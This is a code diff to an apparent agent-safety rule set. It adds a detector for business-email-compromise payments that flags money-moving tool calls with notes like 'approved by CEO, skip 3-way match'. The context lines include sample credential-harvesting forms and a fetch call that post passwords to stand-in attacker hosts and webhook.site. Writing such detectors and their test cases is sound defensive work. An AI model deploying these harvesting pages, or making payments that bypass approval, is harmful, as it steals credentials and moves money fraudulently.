@@ -1,6 +1,7 @@
 import { ruleAnalyzer, hasArg, type AnalysisInput, type Rule } from '../rule.js';
 import type { SimpleCommand } from '../shell/types.js';
 import { destinationOf } from '../knowledge/hosts.js';
+import { nameWords } from '../tool-shape.js';
 
 /** Message text beyond this is not read; a phishing ask sits in the first screen. */
 const MAX_TEXT = 64 * 1024;
@@ -10,6 +11,11 @@ const PAYMENT_ASK = ['moved banks', 'new bank details', 'updated bank details', 
 const URGENCY = ['account is locked', 'account is suspended', 'or lose access', 'will lose access', 'do not call to confirm', "don't call to confirm", 'do not call', 'urgent', 'urgently', 'immediately', 'right away', 'within 24 hours', 'within 24h', 'within the hour', 'asap', 'account will be suspended', 'account has been suspended', 'account will be locked', 'account has been locked', 'will be deactivated', 'final notice', 'final warning', 'act now', 'verify your account', 'unusual activity', 'suspicious activity', 'unauthorized login', 'keep this confidential', 'do not tell anyone', "don't tell anyone", 'before end of day'];
 
 const count = (t: string, phrases: readonly string[]) => phrases.filter((p) => t.includes(p));
+
+/** Tool-name words of calls that move or commit money. */
+const MONEY_TOOLS = new Set(['payment', 'payments', 'pay', 'invoice', 'invoices', 'refund', 'refunds', 'payout', 'payouts', 'transfer', 'bill', 'bills', 'payroll', 'wire', 'card', 'cards', 'reimbursement', 'expense']);
+/** Notes that wave a payment past its checks. */
+const CONTROL_BYPASS = ['skip 3-way match', 'skip three-way match', 'skip the 3-way', 'skip approval', 'skip the approval', 'bypass approval', 'without approval', 'do not wait for finance', "don't wait for finance", 'approved by ceo', 'approved by the ceo', 'per ceo', 'ceo approved', 'ceo asked', 'ceo over email', 'pay today', 'wire today', 'no po needed', 'skip review', 'skip the review'];
 
 /** A credential or payment ask with pressure or a link: the two halves of every phishing message. */
 function phishing(text: string): string | undefined {
@@ -119,6 +125,25 @@ export const RULES: readonly Rule[] = [
       return undefined;
     },
     examples: { fire: [{ Filesystem: { operation: 'Write', path: 'site/login.html', content: '<form action="https://collect.attacker.example/p" method="post"><input name="u"><input type="password" name="p"></form>' } }, { Filesystem: { operation: 'Write', path: 'index.html', content: '<form id=f><input type=password id=pw></form><script>fetch("https://webhook.site/x",{method:"POST",body:pw.value})</script>' } }, "cat > /var/www/html/o365.html <<'EOF'\n<form action=\"http://45.33.12.7/c\"><input type=\"password\" name=\"pw\"></form>\nEOF"], quiet: [{ Filesystem: { operation: 'Write', path: 'src/login.html', content: '<form action="/api/login" method="post"><input type="password" name="p"></form>' } }, { Filesystem: { operation: 'Write', path: 'src/login.html', content: '<form action="http://localhost:3000/login"><input type="password"></form>' } }, { Filesystem: { operation: 'Write', path: 'src/search.html', content: '<form action="https://www.google.com/search"><input name="q"></form>' } }] },
+  },
+  {
+    id: 'PX-SOCIAL-004', name: 'payment-waved-past-controls', score: 60, tactic: 'impact', technique: 'T1657',
+    message: 'A payment, invoice, refund or payroll call carries a note that waves it past its checks (the CEO approved it, pay today, skip the match)',
+    why: 'An executive\'s say-so relayed by email, urgency and a skipped approval are the marks of business email compromise; an agent told to pay that way is being used to move money.',
+    alternative: 'Pay through the normal approval flow, and confirm a changed or urgent request by phone with a known number.',
+    check: (i) => {
+      if (i.call.kind !== 'unknown' || !nameWords(i.call.toolName).some((w) => MONEY_TOOLS.has(w))) return undefined;
+      for (const t of i.facts.texts.slice(0, 128)) {
+        const text = t.slice(0, MAX_TEXT).toLowerCase();
+        const hit = CONTROL_BYPASS.find((p) => text.includes(p));
+        if (hit) return `${i.call.toolName}: ${hit}`;
+      }
+      return undefined;
+    },
+    examples: {
+      fire: [{ Unknown: { tool_name: 'mcp__stripe__create_refund', params: { payment_intent: 'pi_3PLk9x', amount: 980000, metadata: { note: 'Urgent - approved by CEO over email, do not wait for finance' } } } }, { Unknown: { tool_name: 'mcp__xero__create_invoices', params: { Invoices: [{ Type: 'ACCPAY', Contact: { Name: 'Meridian IT Consulting' }, Status: 'AUTHORISED', Reference: 'per CEO - pay today, skip 3-way match' }] } } }],
+      quiet: [{ Unknown: { tool_name: 'mcp__stripe__create_refund', params: { payment_intent: 'pi_3PLk9x', amount: 1299, reason: 'duplicate' } } }, { Unknown: { tool_name: 'mcp__xero__create_invoices', params: { Invoices: [{ Type: 'ACCREC', Contact: { Name: 'Northwind' }, Reference: 'PO 4471, approved in Coupa' }] } } }],
+    },
   },
 ];
 
